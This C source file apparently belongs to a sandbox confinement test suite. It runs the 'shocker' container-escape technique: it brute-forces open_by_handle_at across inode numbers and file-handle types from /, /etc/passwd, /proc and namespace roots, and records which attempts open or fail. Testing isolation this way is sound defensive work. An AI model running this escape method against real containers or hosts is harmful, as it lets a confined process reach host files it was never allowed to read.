/* Opens files by their handles, past every path ("shocker"): on each file system it can hold, many inodes, all
 * forms. */
#include "attack.h"

struct handle {
    unsigned bytes;
    int type;
    unsigned char data[128];
};

enum { INODES = 2000, AT_HANDLE_FID_ = 0x200, AT_HANDLE_CONNECTABLE_ = 0x2, AT_HANDLE_MNT_ID_UNIQUE_ = 0x1 };
/* Roots that need no descriptor on newer kernels: processes and namespaces by number. */
enum { PIDFS_ROOT = -10002, NSFS_ROOT = -10003 };

static const char *HOLDS[] = {
    "/", "/usr", "/etc/passwd", "/workspace", "/tmp", "/dev/shm", "/proc", "/dev/null", "/proc/self/ns/mnt",
    "/proc/self/ns/user",
};
/* 32-bit inode and generation; with the parent; 64-bit; ext4, xfs, btrfs, tmpfs, overlay, nsfs and pidfs among them. */
static const int TYPES[] = {0x01, 0x02, 0x03, 0x4d, 0x4e, 0x4f, 0x51, 0x61, 0x62, 0x81, 0x82, 0xf1, 0xf2, 0xf8,
    0xfb, 0xfe, 0x10001};
static const unsigned LENGTHS[] = {8, 12, 16, 20, 32};

static void brute(const char *name, int fd) {
    for (size_t t = 0; t < sizeof TYPES / sizeof *TYPES; t++) {
        const char *answer = "nothing tried";
        for (unsigned long inode = 1; inode <= INODES; inode++) {
            struct handle handle = {LENGTHS[inode % 5], TYPES[t], {0}};
            memcpy(handle.data, &inode, sizeof inode);
            errno = 0;
            long result = syscall(SYS_open_by_handle_at, fd, &handle, O_RDONLY);
            answer = result >= 0 ? "opened" : errno_name(errno);
            if (result >= 0 || errno != EPERM) break;
        }
        report(named("%s by handles of type %#x", name, TYPES[t]), answer);
    }
}

static long make(const char *path, int flags) {
    struct handle handle = {sizeof handle.data, 0, {0}};
    int mount;
    return syscall(SYS_name_to_handle_at, AT_FDCWD, path, &handle, &mount, flags);
}

int main(void) {
    for (size_t i = 0; i < sizeof HOLDS / sizeof *HOLDS; i++) {
        int fd = open(HOLDS[i], O_RDONLY);
        if (fd == -1) continue;
        brute(HOLDS[i], fd);
        close(fd);
        int held = open(HOLDS[i], O_PATH);
        struct handle handle = {8, 1, {2}};
        attempt(named("%s, held only", HOLDS[i]), syscall(SYS_open_by_handle_at, held, &handle, O_RDONLY));
        close(held);
        attempt(named("make a handle of %s", HOLDS[i]), make(HOLDS[i], 0));
        attempt(named("make an identifier of %s", HOLDS[i]), make(HOLDS[i], AT_HANDLE_FID_));
        attempt(named("make a connectable handle of %s", HOLDS[i]), make(HOLDS[i], AT_HANDLE_CONNECTABLE_));
        attempt(named("make a handle of %s with its mount", HOLDS[i]), make(HOLDS[i], AT_HANDLE_MNT_ID_UNIQUE_));
    }
    brute("working directory", AT_FDCWD);
    brute("processes by number", PIDFS_ROOT);
    brute("namespaces by number", NSFS_ROOT);
    int self = (int)syscall(SYS_pidfd_open, getpid(), 0);
    brute("own pidfd", self);
}
